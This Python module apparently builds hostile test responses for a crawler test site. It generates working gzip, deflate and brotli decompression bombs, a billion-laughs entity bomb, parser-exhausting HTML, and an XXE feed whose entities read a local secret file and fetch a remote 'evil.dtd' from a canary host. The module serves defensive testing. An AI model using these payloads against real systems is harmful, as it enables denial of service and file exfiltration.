"""Bodies of the hostile web: compression bombs, articles, feeds, sitemaps and listing pages."""

from __future__ import annotations

import functools
import gzip
import random
import struct
import zlib
from collections.abc import Iterable, Iterator
from html import escape

import brotli

MIB = 1 << 20

# -- compression bombs ----------------------------------------------------------------------


def _raw_deflate(head: bytes, unit: bytes, repeats: int) -> bytes:
    """Raw deflate of head + unit * repeats, made by repeating one compressed unit.

    A full flush resets the compressor's history, so each unit compresses to the same bytes
    and a gigabyte bomb costs a millisecond to build instead of a minute.
    """
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(unit) + packer.flush(zlib.Z_FULL_FLUSH)
    return start + block * repeats + packer.flush()


@functools.cache
def gzip_bomb(mib: int = 512) -> bytes:
    """A valid gzip member that inflates to `mib` MiB of HTML whitespace (about 1 KiB per MiB)."""
    head, unit = b"<html><body><p>", b" " * MIB
    crc = zlib.crc32(head)
    for _ in range(mib):
        crc = zlib.crc32(unit, crc)
    size = (len(head) + mib * MIB) & 0xFFFFFFFF
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\x03"
    return header + _raw_deflate(head, unit, mib) + struct.pack("<II", crc, size)


@functools.cache
def deflate_bomb(mib: int = 256) -> bytes:
    """A zlib stream (Content-Encoding: deflate) that inflates to `mib` MiB."""
    head, unit = b"<html><body><p>", b" " * MIB
    adler = zlib.adler32(head)
    for _ in range(mib):
        adler = zlib.adler32(unit, adler)
    return b"\x78\xda" + _raw_deflate(head, unit, mib) + struct.pack(">I", adler)


@functools.cache
def brotli_bomb(mib: int = 64) -> bytes:
    """A brotli stream of about a hundred bytes that inflates to `mib` MiB."""
    return brotli.compress(b"<html><body><p>" + b" " * (mib * MIB), quality=5)


@functools.cache
def double_gzip_bomb() -> bytes:
    """The gzip bomb gzipped again (Content-Encoding: gzip, gzip): each layer looks small."""
    return gzip.compress(gzip_bomb(), 9)


# -- pages ----------------------------------------------------------------------------------

WORDS = (
    "market regulators analysts investors startup founder engineers researchers talent "
    "compensation package offer equity shares board model training compute cluster exchange "
    "token liquidity quarter revenue growth hiring lab laboratory executives policy funding "
    "valuation round partners customers product launch rival company industry report sources"
).split()


def paragraphs(seed: int, count: int = 5) -> list[str]:
    """Deterministic filler prose, different for every seed so no two articles collide."""
    rng = random.Random(seed)
    out = []
    for _ in range(count):
        sentences = []
        for _ in range(rng.randint(3, 5)):
            words = rng.choices(WORDS, k=rng.randint(9, 16))
            sentences.append(" ".join(words).capitalize() + f" ({seed}-{rng.randint(0, 9999)}).")
        out.append(" ".join(sentences))
    return out


CLAIM = (
    "Meta offered Mira Murati $1 billion to join its superintelligence lab, and she said no, "
    "according to people familiar with the talks."
)


def article_html(
    title: str,
    body: Iterable[str],
    *,
    lang: str = "en",
    charset: str | None = "utf-8",
    published: str = "2024-05-03T10:00:00Z",
) -> str:
    """A plain news article page; `charset` None leaves out the <meta charset>."""
    meta = f'<meta charset="{charset}">\n' if charset else ""
    paras = "\n".join(f"<p>{escape(p)}</p>" for p in body)
    return (
        f'<!DOCTYPE html>\n<html lang="{lang}">\n<head>\n{meta}'
        f"<title>{escape(title)}</title>\n"
        f'<meta property="article:published_time" content="{published}">\n'
        f'<meta property="og:title" content="{escape(title)}">\n</head>\n<body>\n'
        f'<header><nav><a href="/">Home</a></nav></header>\n<main><article>\n'
        f'<h1>{escape(title)}</h1>\n<p class="byline">By Staff Writer</p>\n{paras}\n'
        "</article></main>\n<footer><p>Hostile Times, a test site.</p></footer>\n</body>\n</html>\n"
    )


def good_article(seed: int, title: str, *, claim: bool = True, **kwargs: str | None) -> str:
    """An article that must be stored: unique prose, optionally the talent-offer claim."""
    body = paragraphs(seed)
    if claim:
        body.insert(1, CLAIM)
    return article_html(title, body, **kwargs)


def nested_divs(depth: int) -> bytes:
    """An article drowned in `depth` nested <div>s (parsers recurse; this must not hang)."""
    inner = "<p>" + " ".join(paragraphs(99, 2)) + "</p>"
    return f"<html><body>{'<div>' * depth}{inner}{'</div>' * depth}</body></html>".encode()


def tag_soup(tags: int) -> bytes:
    """A page of `tags` unclosed paragraphs: cheap to send, minutes to parse and extract."""
    return b"<html><body>" + b"<p>x " * tags + b"</body></html>"


def attribute_bomb(attributes: int) -> bytes:
    """One <div> with `attributes` attributes (HTML parsers check duplicates quadratically)."""
    attrs = b" ".join(b'a%d="%d"' % (i, i) for i in range(attributes))
    return (
        b"<html><body><div "
        + attrs
        + b"><p>"
        + " ".join(paragraphs(98, 2)).encode()
        + b"</p></div></body></html>"
    )


def random_bytes(size: int, seed: int = 7) -> bytes:
    """Incompressible noise with NUL bytes in it."""
    return random.Random(seed).randbytes(size)


PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
    b"\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00"
    b"\x00\x00\x00IEND\xaeB`\x82"
) + random_bytes(4000)


def endless(piece: bytes) -> Iterator[bytes]:
    """The same chunk forever (the server's stream loop bounds it)."""
    while True:
        yield piece


# -- discovery documents --------------------------------------------------------------------


def rss(items: Iterable[tuple[str, str]], title: str = "Hostile Times") -> bytes:
    """An RSS 2.0 feed of (title, link) items; links are written as given."""
    body = "".join(
        f"<item><title>{escape(t)}</title><link>{escape(link)}</link></item>" for t, link in items
    )
    return (
        f'<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0"><channel>'
        f"<title>{title}</title><link>/</link>{body}</channel></rss>\n"
    ).encode()


def flood_feed(base: str, count: int = 50_000) -> bytes:
    """An RSS feed of `count` distinct entries, kept terse so 50,000 fit in about 3 MB."""
    items = "".join(f"<item><link>{base}/news/2024/flood/{i}</link></item>" for i in range(count))
    return f"<rss><channel>{items}</channel></rss>".encode()


def laughs_feed(link: str) -> bytes:
    """The billion-laughs entity bomb in a feed whose one item is real."""
    entities = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)).replace(
        "&lol0;", "lol"
    )
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE rss [{entities}]>\n<rss><channel>'
        f"<title>&lol9;</title><item><title>a&lol9;b</title><link>{link}</link></item>"
        "</channel></rss>"
    ).encode()


def xxe_feed(secret_path: str, canary_url: str, link: str) -> bytes:
    """External entities and a remote DTD pointing at a local secret and at the canary."""
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE rss [\n'
        f'<!ENTITY leak SYSTEM "file://{secret_path}">\n'
        f'<!ENTITY remote SYSTEM "{canary_url}/xxe.xml">\n'
        f'<!ENTITY % dtd SYSTEM "{canary_url}/evil.dtd"> %dtd;\n]>\n'
        f"<rss><channel><title>&leak;</title>"
        f"<item><title>&leak;&remote;</title><link>{link}</link></item>"
        f"<item><title>x</title><link>{canary_url}/news/2024/05/03/xxe-link</link></item>"
        "</channel></rss>"
    ).encode()


def sitemap_index(locs: Iterable[str]) -> bytes:
    """A sitemap index listing locs as given."""
    body = "".join(f"<sitemap><loc>{escape(loc)}</loc></sitemap>" for loc in locs)
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{body}</sitemapindex>'
    ).encode()


def urlset(locs: Iterable[str]) -> bytes:
    """A urlset listing locs as given."""
    body = "".join(f"<url><loc>{escape(loc)}</loc></url>" for loc in locs)
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{body}</urlset>'
    ).encode()


def listing(title: str, hrefs: Iterable[str], head: str = "") -> bytes:
    """An HTML listing page with one link per href (written as given)."""
    links = "\n".join(f'<li><a href="{escape(h)}">link</a></li>' for h in hrefs)
    return (
        f"<!DOCTYPE html><html><head><meta charset='utf-8'><title>{title}</title>{head}</head>"
        f"<body><h1>{title}</h1><ul>\n{links}\n</ul></body></html>"
    ).encode()
